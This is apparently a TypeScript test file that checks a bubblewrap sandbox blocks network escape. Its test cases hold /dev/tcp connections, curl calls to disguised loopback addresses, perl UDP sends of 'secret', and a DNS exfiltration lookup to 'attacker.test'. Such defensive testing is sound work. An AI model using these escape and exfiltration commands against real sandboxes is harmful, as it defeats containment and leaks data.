import { execFile } from 'node:child_process'
import { createSocket, type Socket } from 'node:dgram'
import { createServer, type Server } from 'node:net'
import { networkInterfaces } from 'node:os'
import { promisify } from 'node:util'
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import { bubblewrapProvider } from '../../daemon/sandbox/bubblewrap/bubblewrapProvider.ts'
import type { Sandbox } from '../../daemon/sandbox/sandbox.ts'
import { eventually } from '../support/eventually.ts'
import { RecordingNetwork } from '../support/recordingNetwork.ts'
import { type SandboxFolders, sandboxFolders } from '../support/sandboxFolders.ts'

/** What of the machine is listened at from outside, at one port: whatever comes here got out. */
let port = 0
let came: string[] = []
const listeners: (Server | Socket)[] = []
const own = Object.values(networkInterfaces())
  .flatMap((addresses) => addresses ?? [])
  .find(({ family, internal }) => family === 'IPv4' && !internal)?.address

const network = new RecordingNetwork()
let folders: SandboxFolders
/** With a port that refuses everything, and with none. */
const sandboxes: Sandbox[] = []

beforeAll(async () => {
  const tcp = createServer((socket) => {
    came.push(`tcp ${socket.localAddress}`)
    socket.resume()
    socket.end('HTTP/1.0 200 OK\r\n\r\nOUTSIDE')
  })
  await new Promise<void>((resolve) => tcp.listen(0, '::', resolve))
  port = (tcp.address() as { port: number }).port
  const udp = createSocket({ type: 'udp6', ipv6Only: false }, (_, { address }) => came.push(`udp ${address}`))
  await new Promise<void>((resolve) => udp.bind(port, '::', resolve))
  listeners.push(tcp, udp)
  folders = sandboxFolders()
  vi.stubEnv('HOME', folders.userHome)
  const provider = bubblewrapProvider({ hide: [folders.data] })
  network.allows = () => false
  network.serve = (stream) => stream.destroy()
  sandboxes.push(await provider.open({ ...folders.layer(), network }), await provider.open(folders.layer()))
})
afterAll(async () => {
  await Promise.all(sandboxes.map((sandbox) => sandbox.close()))
  await Promise.all(listeners.map((listener) => new Promise<void>((resolve) => listener.close(() => resolve()))))
  vi.unstubAllEnvs()
  folders.remove()
})
beforeEach(() => {
  came = []
})

const curl = 'curl --noproxy "*" -sS --max-time 3'
const datagram = (family: number, address: string) =>
  `perl -e 'socket my $s, ${family}, 2, 0 or die; send($s, "secret", 0, ${address}) or die "send: $!"'`
const four = (address: string) => `pack("S n C4 x8", 2, ${port}, ${address.split('.').join(',')})`

describe.each([
  ['TCP to the loopback', () => `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`],
  ['TCP to the machine’s own address', () => `exec 3<>/dev/tcp/${own ?? '127.0.0.1'}/${port} && cat <&3`],
  ['TCP to the loopback of IPv6', () => `${curl} http://[::1]:${port}/`],
  ['an address of IPv4 in one of IPv6', () => `${curl} http://[::ffff:127.0.0.1]:${port}/`],
  ['an address as one number', () => `${curl} http://2130706433:${port}/`],
  ['an address in octal', () => `${curl} http://0177.0.0.01:${port}/`],
  ['an address in hex', () => `${curl} http://0x7f.0.0.0x1:${port}/`],
  ['a short address', () => `${curl} http://127.1:${port}/`],
  ['any address', () => `${curl} http://0.0.0.0:${port}/`],
  ['localhost', () => `${curl} http://localhost:${port}/`],
  ['UDP to the loopback', () => datagram(2, four('127.0.0.1'))],
  ['UDP to the machine’s own address', () => datagram(2, four(own ?? '127.0.0.1'))],
  ['UDP to the loopback of IPv6', () => datagram(10, `pack("S n N x15 C N", 10, ${port}, 0, 1, 0)`)],
])('%s', (_, line) => {
  test('gets out where there is no sandbox, so that it is seen', async () => {
    await promisify(execFile)('bash', ['-c', line()])
    await eventually(() => came).toHaveLength(1)
  })

  test('gets nowhere from a sandbox, with a port that refuses and without one', async () => {
    for (const sandbox of sandboxes) {
      const { stdout } = await sandbox.exec({ line: line() })
      expect(Buffer.from(stdout.head).toString()).not.toContain('OUTSIDE')
    }
    // What a datagram does takes no answer; one from outside, sent after it, comes after it.
    await promisify(execFile)('bash', ['-c', datagram(2, four('127.0.0.1'))])
    await eventually(() => came).not.toEqual([])
    expect(came).toEqual(['udp ::ffff:127.0.0.1'])
  })
})

describe.each([
  ['localhost with a dot', `${curl} http://localhost.:9/ 2>&1`, /connect|not resolve/],
  ['TCP elsewhere', 'timeout 3 bash -c "exec 3<>/dev/tcp/93.184.216.34/80" 2>&1', /unreachable/],
  ['DNS over HTTPS', `${curl} https://1.1.1.1/dns-query?name=secret.test 2>&1`, /Couldn't connect|Failed to connect/],
  [
    'a name server elsewhere',
    `perl -e 'socket $s, 2, 2, 0; send($s, "secret", 0, pack("S n C4 x8", 2, 53, 8, 8, 8, 8)) or print $!'`,
    /unreachable/,
  ],
  [
    'QUIC',
    `perl -e 'socket $s, 2, 2, 0; send($s, "secret", 0, pack("S n C4 x8", 2, 443, 1, 1, 1, 1)) or print $!'`,
    /unreachable/,
  ],
  [
    'multicast',
    `perl -e 'socket $s, 2, 2, 0; send($s, "secret", 0, pack("S n C4 x8", 2, 5353, 224, 0, 0, 251)) or print $!'`,
    /unreachable/,
  ],
  ['ICMP', `perl -e 'socket($s, 2, 2, 1) or socket($s, 2, 3, 1) or print $!'`, /denied|not permitted/],
  ['raw packets', `perl -e 'socket($s, 2, 3, 255) or print $!'`, /not permitted/],
  ['packets of the link', `perl -e 'socket($s, 17, 3, 768) or print $!'`, /not permitted/],
  ['an abstract Unix socket', `perl -e 'socket($s, 1, 1, 0) or print $!'`, /not permitted/],
  ['a name with data in it', 'getent ahosts c2VjcmV0.attacker.test; echo $?', /^2$/],
  ['a new route', 'ip route add default dev lo 2>&1 || echo 1', /not permitted|not found/],
  ['another address', 'ip addr add 10.0.0.1/8 dev lo 2>&1', /not permitted|not found/],
  ['the loopback taken down', 'ip link set lo down 2>&1', /not permitted|not found/],
  [
    'the loopback taken down, by hand',
    `perl -e 'socket $s, 2, 2, 0; $r = pack "a16 s x22", "lo", 0; ioctl($s, 0x8914, $r) or print $!'`,
    /not permitted/,
  ],
  ['a setting of the network', 'echo 0 2>&1 > /proc/sys/net/ipv4/ip_unprivileged_port_start', /Read-only|denied/],
])('%s', (_, line, refusal) => {
  test('is refused inside', async () => {
    for (const sandbox of sandboxes) {
      const { stdout, stderr } = await sandbox.exec({ line })
      expect(Buffer.concat([stdout.head, stderr.head]).toString().trim()).toMatch(refusal)
    }
    expect(network.connections).toEqual([])
  })
})

describe('without a port', () => {
  test('nothing listens, and no name resolves', async () => {
    const [, closed] = sandboxes as [Sandbox, Sandbox]
    expect(await closed.ports()).toEqual([])
    const { stdout } = await closed.exec({
      line: 'grep -c " 0A " /proc/net/tcp; tail -n +2 /proc/net/udp; env | grep -i proxy; getent hosts example.com',
    })
    expect(Buffer.from(stdout.head).toString()).toBe('0\n')
  })
})

describe('with one', () => {
  test('what the server listens at is no port of a program’s', async () => {
    expect(await sandboxes[0]?.ports()).toEqual([])
  })

  test('nothing else can listen there, or make the server stop', async () => {
    const [open] = sandboxes as [Sandbox]
    const bind = (kind: number, at: string) => `perl -e 'socket $s, 2, ${kind}, 0;
      setsockopt $s, 1, $_, 1 for 2, 15; bind($s, pack "S n C4 x8", 2, ${at}) && (${kind} == 2 || listen($s, 5)) and print "TAKEN "'`
    const takes = [
      bind(1, '3128, 127, 0, 0, 1'),
      bind(1, '3128, 0, 0, 0, 0'),
      bind(2, '53, 127, 0, 0, 1'),
      bind(2, '53, 0, 0, 0, 0'),
      bind(1, '53, 127, 0, 0, 1'),
    ]
    const kills = ['kill -9 1', 'kill -STOP 1', 'kill -9 -1', 'fuser -k 3128/tcp']
    const { stdout } = await open.exec({ line: `${takes.join('; ')}; (${kills.join('; ')}) 2>/dev/null` })
    expect(Buffer.from(stdout.head).toString()).toBe('')
    network.serve = (stream) => stream.end('here')
    const { stdout: after } = await open.exec({ line: 'exec 3<>/dev/tcp/127.0.0.1/3128; cat <&3' })
    expect(Buffer.from(after.head).toString()).toBe('here')
  })

  test('its sockets are no descriptors of a command', async () => {
    const line = `perl -e 'opendir D, "/proc/self/fd"; print join " ", sort grep /\\d/, readdir D'`
    const { stdout } = await (sandboxes[0] as Sandbox).exec({ line })
    expect(Buffer.from(stdout.head).toString()).toBe('0 1 2 3')
  })

  test('a result says whether the network was there', async () => {
    const effective = sandboxes.map(
      async (sandbox) => (await sandbox.exec({ line: 'true', network: true })).evidence.effective,
    )
    expect(await Promise.all(effective)).toEqual([{ network: true }, { network: false }])
    const { evidence } = await (sandboxes[0] as Sandbox).exec({ line: 'true' })
    expect(evidence).toMatchObject({ requested: { network: false }, effective: { network: false } })
  })
})
